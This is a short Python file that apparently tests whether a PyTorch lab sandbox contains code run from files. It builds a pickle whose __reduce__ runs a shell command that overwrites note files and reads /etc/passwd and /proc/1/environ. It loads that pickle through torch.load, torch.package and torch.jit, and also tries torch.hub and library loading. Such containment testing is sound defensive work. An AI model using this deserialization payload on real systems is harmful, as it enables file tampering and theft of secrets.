"""Has torch run code from files: a pickle, a package, a script, a library; each tries to reach what lies outside."""

LAB = "06a_operators"
EXERCISES = ("on_torch.custom_ops.infer_schema",)


def cell():
    import io
    import os
    import pickle
    import zipfile

    import torch

    class Reaching:
        def __reduce__(self):
            return os.system, (
                "echo changed > /edition/note; echo changed > /packages/note; cat /etc/passwd /proc/1/environ",
            )

    for source in (pickle.dumps(Reaching()), b"\x80\x02."):
        try:
            torch.load(io.BytesIO(source), weights_only=False)
        except Exception as error:
            print(type(error), error)
    with zipfile.ZipFile("/tmp/package.pt", "w") as file:
        file.writestr("package/.data/version", "6")
        file.writestr("package/model/model.pkl", pickle.dumps(Reaching()))
    for load in (
        lambda: torch.package.PackageImporter("/tmp/package.pt").load_pickle("model", "model.pkl"),
        lambda: torch.hub.load("pytorch/vision", "resnet18"),
        lambda: torch.ops.load_library("/proc/self/exe"),
        lambda: torch.jit.load("/tmp/package.pt"),
    ):
        try:
            load()
        except Exception as error:
            print(type(error), str(error)[:200])


def answer():
    return 1
